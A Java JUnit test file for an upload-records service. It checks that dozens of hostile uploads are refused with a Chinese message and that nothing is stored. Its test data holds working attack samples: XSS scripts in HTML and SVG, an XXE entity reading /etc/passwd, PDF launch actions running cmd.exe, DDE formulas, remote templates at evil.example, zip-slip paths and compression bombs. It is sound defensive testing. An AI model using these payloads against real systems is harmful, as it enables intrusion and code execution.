package horqin.records;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;

import horqin.records.Receipt.Rejected;
import horqin.records.Receipt.Stored;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import org.springframework.core.io.ByteArrayResource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * What people and programs hand in: refused, or taken in harmless, and nothing left
 * behind.
 */
class UploadAttackTest {

	private static final String HTML = "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>";

	private static final String SVG = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>";

	private static final String XXE = "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>";

	private static final String EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

	private static final String EXTERNAL = "TargetMode=\"External\"";

	private static final Accept ALL = new Accept(Set.of(Format.values()), 20 * 1024 * 1024);

	@TempDir
	static Path folder;

	static TestRecords records;

	record Attack(String what, String name, byte[] content, String refusal) {

		@Override
		public String toString() {
			return this.what;
		}

	}

	@BeforeAll
	static void start() {
		records = new TestRecords(folder);
	}

	static Stream<Attack> disguises() {
		return Stream.of(new Attack("html as pdf", "a.pdf", Samples.text(HTML), "的内容不是 PDF 文档"),
				new Attack("html as jpg", "a.jpg", Samples.text(HTML), "的内容不是 JPG 图片"),
				new Attack("html", "a.html", Samples.text(HTML), "不是这里可以上传的文件"),
				new Attack("svg with script", "a.svg", Samples.text(SVG), "不是这里可以上传的文件"),
				new Attack("svg as xml", "a.xml", Samples.text(SVG), "网页或图形"),
				new Attack("svg as png", "a.png", Samples.text(SVG), "的内容不是 PNG 图片"),
				new Attack("svg with external entity", "a.xml", Samples.text(XXE + SVG), "文档类型声明"),
				new Attack("xml with external entity", "a.xml", Samples.text(XXE + "<x>&e;</x>"), "文档类型声明"),
				new Attack("xml with a stylesheet", "a.xml",
						Samples.text("<?xml version=\"1.0\"?><?xml-stylesheet href=\"a.xsl\"?><x/>"), "处理指令"),
				new Attack("broken xml", "a.xml", Samples.text("<?xml version=\"1.0\"?><x><y></x>"), "已损坏"),
				new Attack("xhtml inside xml", "a.xml",
						Samples.text("<?xml version=\"1.0\"?><x><script xmlns=\"http://www.w3.org/1999/xhtml\"/></x>"),
						"网页或图形"),
				new Attack("polyglot pdf and html behind", "a.pdf", Samples.joined(Samples.pdf(""), Samples.text(HTML)),
						"夹带了其他内容"),
				new Attack("polyglot html in the head of a pdf", "a.pdf",
						Samples.joined(Samples.text("%PDF-1.7\n%<html><script>alert(1)</script>\n"), Samples.pdf("")),
						"夹带了其他内容"),
				new Attack("polyglot pdf and zip behind", "a.pdf",
						Samples.joined(Samples.pdf(""), Samples.zip(Samples.docxParts())), "夹带了其他内容"),
				new Attack("polyglot gif and script", "a.gif", Samples.text("GIF89a/*x*/=1;alert(1)"), "不是这里可以上传的文件"),
				new Attack("gif as jpg", "a.jpg", Samples.picture("gif", 4, 4), "的内容不是 JPG 图片"),
				new Attack("png as jpg", "a.jpg", Samples.picture("png", 4, 4), "的内容不是 JPG 图片"),
				new Attack("rtf with objupdate", "a.rtf", Samples.text("{\\rtf1{\\object\\objupdate}}"), "不是这里可以上传的文件"),
				new Attack("rtf as docx", "a.docx", Samples.text("{\\rtf1{\\object\\objupdate}}"), "的内容不是 Word 文档"),
				new Attack("eicar plain", "eicar.com", Samples.text(EICAR), "不是这里可以上传的文件"),
				new Attack("eicar as pdf", "eicar.pdf", Samples.text(EICAR), "的内容不是 PDF 文档"),
				new Attack("executable", "a.pdf", Samples.text("MZ\u0090\0\3\0\0\0\4"), "的内容不是 PDF 文档"),
				new Attack("no ending", "README", Samples.pdf(""), "不是这里可以上传的文件"),
				new Attack("two endings", "a.pdf.exe", Samples.pdf(""), "不是这里可以上传的文件"),
				new Attack("turned writing direction", "photo\u202Egnp.exe", Samples.picture("png", 4, 4),
						"不是这里可以上传的文件"),
				new Attack("NUL in the name", "a.exe\0.pdf.exe", Samples.pdf(""), "不是这里可以上传的文件"));
	}

	static Stream<Attack> pdfs() {
		return Stream.of(new Attack("script", "a.pdf", Samples.pdf("/Names<</JavaScript 5 0 R>>"), "含有脚本"),
				new Attack("escaped script", "a.pdf", Samples.pdf("/Names<</J#61va#53cript 5 0 R>>"), "含有脚本"),
				new Attack("action on opening", "a.pdf", Samples.pdf("/OpenAction<</S/URI/URI(http://x)>>"), "打开时自动执行"),
				new Attack("action elsewhere on opening", "a.pdf", Samples.pdf("/OpenAction 9 0 R"), "打开时自动执行"),
				new Attack("program", "a.pdf", Samples.pdf("/X<</S/Launch/F(cmd.exe)>>"), "启动程序"),
				new Attack("attachment", "a.pdf", Samples.pdf("/Names<</EmbeddedFiles<<>>>>"), "内嵌了附件"),
				new Attack("password", "a.pdf", Samples.pdf("/Encrypt 5 0 R"), "设有密码"),
				new Attack("script in a compressed object", "a.pdf",
						Samples.pdfWithHidden("4 0 <</S/JavaScript/JS(app.alert(1))>>"), "含有脚本"),
				new Attack("compressed objects of 120 MB", "a.pdf",
						Samples.pdfWithPacked(Samples.deflated(new byte[1024 * 1024], 120)), "展开后过大"),
				new Attack("compressed objects that are none", "a.pdf",
						Samples.text("%PDF-1.7\n1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\nxx"
								+ "\nendstream\n%%EOF"),
						"不是完整的 PDF"),
				new Attack("objects packed in an unusual way", "a.pdf",
						Samples.text("%PDF-1.7\n1 0 obj<</Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]>>stream\n00"
								+ "\nendstream\n%%EOF"),
						"内部结构无法检查"),
				new Attack("20,000 pages", "a.pdf",
						Samples.joined(Samples.text("%PDF-1.7\n"), Samples.text("<</Type/Page>>".repeat(20_000)),
								Samples.pdf("")),
						"超过 1000 页"),
				new Attack("cut off", "a.pdf", Samples.text("%PDF-1.7\n1 0 obj"), "不是完整的 PDF"));
	}

	static Stream<Attack> packages() {
		Map<String, byte[]> docx = Samples.docxParts();
		Map<String, byte[]> xlsx = Samples.xlsxParts();
		return Stream.of(new Attack("macro", "a.docx", Samples.with(docx, "word/vbaProject.bin", new byte[9]), "含有宏"),
				new Attack("docm as docx", "a.docx",
						Samples.with(docx, Samples.CONTENT_TYPES,
								Samples.contentTypes("word/document.xml",
										"application/vnd.ms-word.document.macroEnabled.main+xml")),
						"含有宏"),
				new Attack("docm", "a.docm", Samples.zip(docx), "不是这里可以上传的文件"),
				new Attack("excel 4 macros", "a.xlsx",
						Samples.with(xlsx, "xl/macrosheets/sheet1.xml", Samples.text("<x/>")), "含有宏"),
				new Attack("activeX", "a.docx", Samples.with(docx, "word/activeX/activeX1.xml", Samples.text("<x/>")),
						"含有宏"),
				new Attack("remote template", "a.docx",
						Samples.with(docx, "word/_rels/settings.xml.rels",
								Samples.relations(
										Samples.relation("attachedTemplate", "https://evil.example/t.dotm", EXTERNAL))),
						"引用了外部内容"),
				new Attack("template on a share", "a.docx",
						Samples.with(docx, "word/_rels/settings.xml.rels",
								Samples.relations(
										Samples.relation("attachedTemplate", "file:////evil/share/t.dotm", EXTERNAL))),
						"引用了外部内容"),
				new Attack("zip slip with backslashes", "a.docx",
						Samples.with(docx, "..\\..\\evil.xml", Samples.text("<x/>")), "文件以外的路径"),
				new Attack("old word file or password", "a.docx",
						Samples.joined(HexFormat.of().parseHex("d0cf11e0a1b11ae1"), new byte[600]), "设有打开密码或是旧版"),
				new Attack("external entity in an invoice", "a.ofd",
						Samples.zip(Map.of("OFD.xml", Samples.text("<OFD/>"), "Doc_0/Document.xml",
								Samples.text(XXE + "<x>&e;</x>"))),
						"文档类型声明"),
				new Attack("link to a file", "a.docx",
						Samples.with(docx, "word/_rels/document.xml.rels",
								Samples.relations(Samples.relation("hyperlink", "file://evil/share/a.exe", EXTERNAL))),
						"引用了外部内容"),
				new Attack("external entity in the list of types", "a.docx",
						Samples.with(docx, Samples.CONTENT_TYPES, Samples.text(XXE + "<Types>&e;</Types>")), "文档类型声明"),
				new Attack("external entity, in UTF-16", "a.docx",
						Samples.with(docx, "word/styles.xml",
								("\uFEFF" + XXE + "<x>&e;</x>").getBytes(StandardCharsets.UTF_16BE)),
						"文档类型声明"),
				new Attack("external link", "a.xlsx",
						Samples.with(xlsx, "xl/externalLinks/externalLink1.xml", Samples.text("<x/>")), "引用了外部内容"),
				new Attack("data connection", "a.xlsx", Samples.with(xlsx, "xl/connections.xml", Samples.text("<x/>")),
						"引用了外部内容"),
				new Attack("formula that starts a program", "a.xlsx",
						Samples.with(xlsx, "xl/worksheets/sheet1.xml",
								Samples.text("<s><c><f>cmd|'/c calc'!A0</f></c></s>")),
						"会启动其他程序"),
				new Attack("field that starts a program", "a.docx",
						Samples.with(docx, "word/header1.xml",
								Samples.text("<w><instrText>DD</instrText><instrText>EAUTO c:\\\\cmd.exe"
										+ "</instrText></w>")),
						"会启动其他程序"),
				new Attack("embedded object", "a.docx",
						Samples.with(docx, "word/embeddings/oleObject1.bin", new byte[9]), "内嵌了对象"),
				new Attack("eicar in zip in docx", "a.docx",
						Samples.with(docx, "word/media/a.zip", Samples.zip(Map.of("eicar.com", Samples.text(EICAR)))),
						"内嵌了对象"),
				new Attack("macro in an embedded table", "a.docx",
						Samples.with(docx, "word/embeddings/t.xlsx",
								Samples.with(xlsx, "xl/vbaProject.bin", new byte[9])),
						"内嵌的 Excel 表格含有宏"),
				new Attack("twelve deep", "a.docx", nested(12), "内嵌文件层数过多"),
				new Attack("bomb of 120 MB", "a.xlsx", Samples.bomb(120), "压缩炸弹"),
				new Attack("100,000 entries", "a.xlsx", many(100_000), "超过 2000 个"),
				new Attack("zip slip", "a.docx", Samples.with(docx, "../../evil.xml", Samples.text("<x/>")), "文件以外的路径"),
				new Attack("absolute path", "a.docx", Samples.with(docx, "/etc/x.xml", Samples.text("<x/>")),
						"文件以外的路径"),
				new Attack("zip as docx", "a.docx", Samples.zip(Map.of("a.xml", Samples.text("<x/>"))), "不是真正的 Word"),
				new Attack("xlsx as docx", "a.docx", Samples.zip(xlsx), "不是真正的 Word"),
				new Attack("cut off zip", "a.docx", Arrays.copyOf(Samples.zip(docx), 300), "已损坏"),
				new Attack("broken part", "a.docx", Samples.with(docx, "word/styles.xml", Samples.text("<x>")), "已损坏"),
				new Attack("zip as ofd", "a.ofd", Samples.zip(docx), "不是真正的 OFD"),
				new Attack("program in ofd", "a.ofd",
						Samples.zip(Map.of("OFD.xml", Samples.text("<OFD/>"), "Attachs/a.exe", new byte[3])),
						"内嵌了 .exe 文件"));
	}

	private static byte[] nested(int depth) {
		byte[] inner = Samples.zip(Samples.docxParts());
		for (int i = 1; i < depth; i++) {
			inner = Samples.with(Samples.docxParts(), "word/embeddings/d.docx", inner);
		}
		return inner;
	}

	private static byte[] many(int entries) {
		Map<String, byte[]> parts = new LinkedHashMap<>(Samples.xlsxParts());
		for (int i = 0; i < entries; i++) {
			parts.put("xl/" + i + ".xml", new byte[0]);
		}
		return Samples.zip(parts);
	}

	static Stream<Attack> pictures() {
		byte[] jpeg = Samples.picture("jpeg", 40, 30);
		return Stream.of(new Attack("pixel flood", "a.png", Samples.pngClaiming(60_000, 60_000), "超过 4000 万像素"),
				new Attack("hollow png", "a.png", Samples.pngClaiming(4_000, 4_000), "已损坏"),
				new Attack("cut off jpeg", "a.jpg", Arrays.copyOf(jpeg, 200), "已损坏"),
				new Attack("0 bytes", "a.jpg", new byte[0], "是空文件"));
	}

	@ParameterizedTest
	@MethodSource({ "disguises", "pdfs", "packages", "pictures" })
	void isRefusedWithASentenceAndLeavesNothingBehind(Attack attack) throws IOException {
		Receipt receipt = receive(attack.name(), null, attack.content(), ALL);
		assertThat(receipt).isInstanceOf(Rejected.class);
		assertThat(((Rejected) receipt).sentence()).startsWith("「").contains(attack.refusal()).endsWith("。");
		assertThat(kept()).isEmpty();
	}

	@Test
	void theListOfAttacksIsAsLongAsItShouldBe() {
		assertThat(Stream.of(disguises(), pdfs(), packages(), pictures()).mapToLong(Stream::count).sum())
			.isGreaterThanOrEqualTo(60);
	}

	@Test
	void aTypeThatTheSenderDeclaresOtherwiseIsRefused() throws IOException {
		assertThat(receive("a.pdf", "text/html", Samples.pdf(""), ALL)).isInstanceOf(Rejected.class);
		assertThat(receive("a.pdf", "image/png", Samples.pdf(""), ALL)).isInstanceOf(Rejected.class);
		assertThat(kept()).isEmpty();
	}

	@Test
	void eachPlaceTakesOnlyWhatItNames() {
		byte[] xml = Samples.text("<?xml version=\"1.0\" encoding=\"UTF-8\"?><EInvoice><No>1</No></EInvoice>");
		assertThat(receive("a.xml", "text/xml", xml, Accept.DOCUMENT))
			.isEqualTo(new Rejected("「a.xml」不是这里可以上传的文件：只收 PDF 文档、JPG 图片、PNG 图片、Word 文档、Excel 表格，不超过 20 MB。"));
		assertThat(receive("a.ofd", null, Samples.ofd(), Accept.DOCUMENT)).isInstanceOf(Rejected.class);
		assertThat(receive("a.pdf", null, Samples.pdf(""), Accept.IMAGE)).isInstanceOf(Rejected.class);
		assertThat(receive("a.pdf", null, Samples.pdf(""), Accept.SPREADSHEET)).isInstanceOf(Rejected.class);
	}

	private static Receipt receive(String name, String declared, byte[] content, Accept accept) {
		Upload upload = new Upload(name, declared, new ByteArrayResource(content));
		return records.inTransaction(() -> {
			Receipt receipt = records.files.receive(upload, accept, 1);
			if (receipt instanceof Stored(var file)) {
				records.files.forget(file.id());
			}
			return receipt;
		});
	}

	private static List<Path> kept() throws IOException {
		if (!Files.exists(folder.resolve("files"))) {
			return List.of();
		}
		try (var walk = Files.walk(folder.resolve("files"))) {
			return walk.filter(Files::isRegularFile).toList();
		}
	}

}
